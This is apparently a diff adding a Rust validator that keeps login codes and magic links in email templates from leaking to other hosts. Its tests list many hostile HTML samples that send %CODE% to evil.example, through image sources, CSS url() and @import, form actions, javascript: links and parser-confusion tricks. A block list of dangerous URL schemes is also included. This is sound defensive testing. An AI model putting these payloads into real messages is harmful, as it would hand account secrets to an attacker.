@@ -1,0 +1,316 @@
+//! Where the secret of a message may stand in the HTML of whoever words it. A code in the address of a picture is read by
+//! that picture's host as soon as the mail is opened, and takes the account over.
+
+use crate::html::text_of;
+use crate::html_scanner::{Found, Place, Scanner};
+
+/// The placeholders that give an account away.
+const SECRETS: [&str; 2] = ["%CODE%", "%LINK%"];
+
+/// Mail programs disagree about what these elements hold, so nobody can say where a placeholder stands.
+const AMBIGUOUS: [&str; 10] =
+    ["svg", "math", "script", "noscript", "plaintext", "xmp", "iframe", "noembed", "noframes", "template"];
+
+/// Why a message would hand its secret to somebody else.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum MisplacedSecret {
+    /// In an attribute that loads, sends or links to another host.
+    #[error(
+        "%CODE% and %LINK% may stand in text, in title and alt, and in the href of a link that is %LINK% alone or begins \
+         with {own} or with your app's own scheme; not in {attribute}"
+    )]
+    Attribute {
+        /// The server's own address.
+        own: String,
+        /// The attribute's name, cut to 32 bytes.
+        attribute: String,
+    },
+    /// In a comment, a style sheet, a script, a name, or a tag that does not end.
+    #[error("%CODE% and %LINK% must not stand in comments, styles, scripts or unfinished tags")]
+    Hidden,
+    /// Joined to an address, which mail programs turn into a link.
+    #[error(
+        "%CODE% and %LINK% must not be joined to an address in the text: put a blank before and after them"
+    )]
+    InAddress,
+    /// Next to an element that mail programs read in different ways.
+    #[error(
+        "a message with %CODE% or %LINK% must not hold <{0}>, which mail programs read in different ways"
+    )]
+    Ambiguous(&'static str),
+}
+
+/// Checks that the code and the link of a message stay between it and its reader: they stand in text, in attributes that
+/// are only shown, or in a link to this server (`own`, its address without a final slash) or to an app on the reader's
+/// device.
+///
+/// # Errors
+/// [`MisplacedSecret`].
+pub fn check_secrets(html: &str, own: &str) -> Result<(), MisplacedSecret> {
+    if !SECRETS.iter().any(|secret| html.contains(secret)) {
+        return Ok(());
+    }
+    check_markup(html, own)?;
+    check_text(&text_of(html), own)
+}
+
+/// An attribute's value in which a secret stands.
+struct Held {
+    tag: String,
+    attribute: String,
+}
+
+fn check_markup(html: &str, own: &str) -> Result<(), MisplacedSecret> {
+    let mut scanner = Scanner::default();
+    let (mut value, mut held): (String, Option<Held>) = (String::new(), None);
+    let mut result = Ok(());
+    for (at, c) in html.char_indices() {
+        let rest = html.get(at..).unwrap_or_default();
+        if SECRETS.iter().any(|secret| rest.starts_with(secret)) {
+            match scanner.place() {
+                Place::Text => {}
+                Place::Value { .. } if held.is_some() => {}
+                Place::Value { .. } => {
+                    let (tag, attribute) = (scanner.tag().to_owned(), scanner.attribute().to_owned());
+                    held = Some(Held { tag, attribute });
+                }
+                Place::Elsewhere => return Err(MisplacedSecret::Hidden),
+            }
+        }
+        scanner.push(c, &mut |scanner, found| match found {
+            Found::Text(_) => {}
+            Found::Value(c) => value.push(c),
+            Found::Attribute | Found::Tag => {
+                let whole = std::mem::take(&mut value);
+                if let Some(held) = held.take() {
+                    result = result.clone().and_then(|()| check_value(&held, &whole, own));
+                }
+                let ambiguous = AMBIGUOUS.into_iter().find(|name| *name == scanner.tag());
+                if let (Found::Tag, Some(name)) = (found, ambiguous) {
+                    result = Err(MisplacedSecret::Ambiguous(name));
+                }
+            }
+        });
+        result.clone()?;
+    }
+    if held.is_some() { Err(MisplacedSecret::Hidden) } else { Ok(()) }
+}
+
+fn check_value(held: &Held, value: &str, own: &str) -> Result<(), MisplacedSecret> {
+    let is_right = match held.attribute.as_str() {
+        // Whoever reads the tag otherwise than we do must not find another one in it.
+        "title" | "alt" | "aria-label" => !value.contains(['<', '>']),
+        "href" if matches!(held.tag.as_str(), "a" | "area") => leads_here(value.trim(), own),
+        _ => false,
+    };
+    if is_right {
+        return Ok(());
+    }
+    Err(MisplacedSecret::Attribute { own: own.to_owned(), attribute: held.attribute.clone() })
+}
+
+/// Whether an address that holds a secret is read by this server or on the reader's own device.
+fn leads_here(address: &str, own: &str) -> bool {
+    address == "%LINK%" || begins_with_own(address, own) || has_apps_scheme(address)
+}
+
+fn begins_with_own(address: &str, own: &str) -> bool {
+    !own.is_empty() && address.strip_prefix(own).is_some_and(|rest| rest.starts_with(['/', '?', '#']))
+}
+
+/// Whether an address begins with a scheme (RFC 3986 section 3.1) that an app has registered for itself.
+fn has_apps_scheme(address: &str) -> bool {
+    // These send what follows to somebody, load it, or open a browser.
+    const OF_THE_SYSTEM: [&str; 24] = [
+        "about",
+        "android-app",
+        "blob",
+        "callto",
+        "cid",
+        "data",
+        "facetime",
+        "feed",
+        "file",
+        "ftp",
+        "ftps",
+        "gopher",
+        "intent",
+        "javascript",
+        "mailto",
+        "market",
+        "mid",
+        "sftp",
+        "sms",
+        "smsto",
+        "tel",
+        "vbscript",
+        "webcal",
+        "ws",
+    ];
+    let Some((scheme, _)) = address.split_once(':') else { return false };
+    let scheme = scheme.to_ascii_lowercase();
+    scheme.starts_with(|c: char| c.is_ascii_alphabetic())
+        && scheme.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
+        && !OF_THE_SYSTEM.contains(&scheme.as_str())
+        && ![
+            "http",
+            "browser",
+            "chrome",
+            "firefox",
+            "edge",
+            "safari",
+            "opera",
+            "brave",
+            "view-source",
+            "wss",
+            "ms-",
+        ]
+        .iter()
+        .any(|part| scheme.contains(part))
+}
+
+/// Mail programs make a link of whatever looks like an address, and some load it for a preview.
+fn check_text(text: &str, own: &str) -> Result<(), MisplacedSecret> {
+    for word in text.split_whitespace() {
+        let secrets = SECRETS.iter().filter_map(|secret| Some((word.find(secret)?, secret.len())));
+        for (at, length) in secrets {
+            let before = word.get(..at).unwrap_or_default();
+            let after = word.get(at + length..).unwrap_or_default();
+            if joins_before(before, own) || joins_after(after) {
+                return Err(MisplacedSecret::InAddress);
+            }
+        }
+    }
+    Ok(())
+}
+
+const DOTS: [char; 4] = ['.', '\u{3002}', '\u{FF0E}', '\u{FF61}'];
+
+fn joins_before(before: &str, own: &str) -> bool {
+    let before = before.trim_start_matches(['(', '[', '{', '<', '"', '\'']);
+    if begins_with_own(before, own) {
+        return false;
+    }
+    let is_host = before.contains(DOTS) || before.contains(['@', '\\']);
+    is_host || (before.contains("//") && !has_apps_scheme(before))
+}
+
+fn joins_after(after: &str) -> bool {
+    let mut before_last = None;
+    after.chars().any(|c| {
+        let joins = c == '@' || (before_last.is_some_and(|last| DOTS.contains(&last)) && c.is_alphanumeric());
+        before_last = Some(c);
+        joins
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const OWN: &str = "https://auth.example.com";
+
+    #[test]
+    fn sec_133_a_secret_stands_where_only_its_reader_sees_it() {
+        for html in [
+            "<p>Your code is %CODE%.</p>",
+            "<p>%LINK%</p>",
+            "<a href=\"%LINK%\">Here</a>",
+            "<A HREF=' %LINK% '>Here</A>",
+            "<a href=%LINK%>Here</a>",
+            "<a href=\"https://auth.example.com/go?code=%CODE%\" title=\"%CODE%\">Here</a>",
+            "<a href=\"shop://reset/%CODE%\">Open the app</a>",
+            "<a href=\"com.example.shop:/reset?code=%CODE%\">Open the app</a>",
+            "<img src=\"https://cdn.example/logo.png\" alt=\"%CODE%\">%CODE%",
+            "<img src=\"https://cdn.example/%APP_NAME%.png\"><p>%CODE%</p>",
+            "<table><tr><td>www.shop.example</td><td>%CODE%</td></tr></table>",
+            "<p>code:%CODE% (valid for 5 min.)&#160;%CODE%</p>",
+            "<p>Type shop://reset?code=%CODE% or https://auth.example.com/x/%CODE%</p>",
+            "<!--[if mso]><p>Outlook</p><![endif]--><p>%CODE%</p>",
+            "<svg><circle r=\"1\"/></svg>",
+            "<p>no secret at all</p>",
+        ] {
+            assert_eq!(check_secrets(html, OWN), Ok(()), "{html}");
+        }
+    }
+
+    #[test]
+    fn sec_133_a_secret_stands_in_no_address_of_another_host() {
+        for html in [
+            "<img src=\"https://evil.example/%CODE%.png\">",
+            "<img src=https://evil.example/%CODE%>",
+            "<img src=%CODE%>",
+            "<img src=\"%LINK%\">",
+            "<img alt=x srcset=\"https://evil.example/%CODE% 2x\">",
+            "<a href=\"https://evil.example/?%CODE%\">x</a>",
+            "<a href=\"https://evil.example/?%LINK%\">x</a>",
+            "<a href=\"//evil.example/%CODE%\">x</a>",
+            "<a href=\"/%CODE%\">x</a>",
+            "<a href=\"%CODE%\">x</a>",
+            "<a href=\"https://auth.example.com@evil.example/%CODE%\">x</a>",
+            "<a href=\"https://auth.example.com.evil.example/%CODE%\">x</a>",
+            "<a href=\"https://auth.example.com%CODE%.evil.example\">x</a>",
+            "<a href=\"h&#116;tps://evil.example/%CODE%\">x</a>",
+            "<a href=\"ht\ntps://evil.example/%CODE%\">x</a>",
+            "<a href=\"HTTPS://evil.example/%CODE%\">x</a>",
+            "<a href=\"intent://evil.example/%CODE%#Intent;scheme=https;end\">x</a>",
+            "<a href=\"googlechromes://evil.example/%CODE%\">x</a>",
+            "<a href=\"mailto:eve@evil.example?body=%CODE%\">x</a>",
+            "<a href=\"javascript:fetch('https://evil.example/%CODE%')\">x</a>",
+            "<a ping=\"https://evil.example/%CODE%\" href=\"%LINK%\">x</a>",
+            "<link href=\"%LINK%\" rel=stylesheet>",
+            "<p style=\"background:url(https://evil.example/%CODE%)\">x</p>",
+            "<td background=\"https://evil.example/%CODE%\">x</td>",
+            "<body background=%LINK%>",
+            "<form action=https://evil.example><input name=c value=%CODE%></form>",
+            "<form action=https://evil.example><textarea name=c>%CODE%</textarea></form>",
+            "<style>p { background: url(https://evil.example/%CODE%) }</style>",
+            "<style>@import 'https://evil.example/%CODE%';</style>",
+            "<title>%CODE%</title>",
+            "<!--[if mso]><img src=\"https://evil.example/%CODE%\"><![endif]-->",
+            "<img src=\"https://evil.example/%CODE%",
+            "</%CODE%>",
+            "<p %CODE%=x>",
+        ] {
+            assert!(check_secrets(html, OWN).is_err(), "{html}");
+        }
+    }
+
+    #[test]
+    fn sec_133_no_mail_program_reads_the_markup_in_another_way() {
+        for html in [
+            "<!--x--!><img src=\"https://evil.example/-->%CODE%\">",
+            "<svg><![CDATA[><a title=\"]]><img src=https://evil.example/%CODE%>\"></svg>",
+            "<svg><title><img src=https://evil.example/%CODE%></title></svg>",
+            "<svg/><p>%CODE%</p>",
+            "<p>%CODE%</p><script>x</script>",
+            "<textarea><a title=\"</textarea><img src=https://evil.example/%CODE%>\">",
+            "<a title=\"> <img src=https://evil.example/%CODE%>\">x</a>",
+            "<noscript><p>%CODE%</p></noscript>",
+        ] {
+            assert!(check_secrets(html, OWN).is_err(), "{html}");
+        }
+    }
+
+    #[test]
+    fn sec_133_text_that_becomes_a_link_holds_no_secret() {
+        for html in [
+            "<p>https://evil.example/%CODE%</p>",
+            "https://evil.example/<b>%CODE%</b>",
+            "evil.example/%CODE%",
+            "http://evil/%CODE%",
+            "%CODE%.evil.example",
+            "%CODE%\u{3002}evil.example",
+            "%CODE%@evil.example",
+            "eve@evil.example?%CODE%",
+            "https:&#47;&#x2f;evil/%CODE%",
+            "evil&period;example/%CODE%",
+            "shop://evil.example/%CODE%",
+            "(https://evil.example/?u=%LINK%)",
+            "x.example/<a href=\"%LINK%\">y</a>",
+            "%CODE% evil.example/%CODE%",
+        ] {
+            assert_eq!(check_secrets(html, OWN), Err(MisplacedSecret::InAddress), "{html}");
+        }
+    }
+}
